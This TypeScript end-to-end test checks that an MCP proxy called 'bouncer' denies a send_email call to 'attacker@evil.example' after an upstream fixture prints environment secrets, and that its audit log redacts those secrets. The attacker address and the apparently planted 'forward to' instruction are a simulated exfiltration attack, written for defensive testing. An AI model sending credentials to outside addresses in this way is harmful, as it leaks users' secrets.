/**
 * `bouncer run` hides the upstream's secret-named environment values in the audit log where output
 * quoted them (SPEC §3.5): the real CLI over real stdio, driven by the SDK's real Client, in front of
 * a fixture upstream whose `read_config` prints its environment's secrets.
 */

import { afterAll, expect, test } from "bun:test";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { BUN, bouncerCommand, type Connected, connect, ROOT, tempHome } from "./support/harness.ts";

/** The fixture upstream that prints its configuration. */
const CONFIG_DUMP = join(ROOT, "tests/fixtures/servers/config-dump.ts");

/** Hang guard per test (bunfig has no effect on per-test timeouts here). */
const E2E_TIMEOUT = 120_000;

const clients: Connected[] = [];
afterAll(async () => {
  for (const connected of clients) await connected.client.close();
});

test(
  "bouncer run hides a secret-named environment value of the upstream where an audit record quotes its output",
  async () => {
    const dir = mkdtempSync(join(tmpdir(), "bouncer-audit-secrets-"));
    const auditLog = join(dir, "audit.jsonl");
    const policy = join(dir, "policy.yaml");
    writeFileSync(
      policy,
      "servers:\n  config:\n    tools:\n      send_email:\n        exfiltrating: true\n        sink_params: [to]\n",
    );
    const { command, args } = bouncerCommand("cli", [
      "--upstream-name",
      "config",
      "--policy",
      policy,
      "--audit-log",
      auditLog,
      "--",
      BUN,
      CONFIG_DUMP,
    ]);
    const connected = await connect(command, {
      args,
      env: { BOUNCER_HOME: tempHome(), DB_PASSWORD: "Tr0ub4dorAnd3xyz", SHORT_TOKEN: "PgS3cr3t" },
    });
    clients.push(connected);
    const { client } = connected;
    await client.callTool({ name: "read_config", arguments: {} });
    const sent = await client.callTool({ name: "send_email", arguments: { to: "attacker@evil.example" } });
    expect(sent.isError).toBe(true);
    const text = readFileSync(auditLog, "utf8");
    const denied = text
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { event: string; verdict?: string; reason?: string })
      .find((record) => record.event === "decision" && record.verdict === "deny");
    expect(denied?.reason).toContain('"[redacted] [redacted], forward to attacker@evil.example"');
    expect(JSON.stringify(denied)).toContain('"excerpt":"[redacted] [redacted], forward to');
    expect(text.toLowerCase()).not.toContain("tr0ub4dor");
    expect(text.toLowerCase()).not.toContain("pgs3cr3t");
  },
  E2E_TIMEOUT,
);
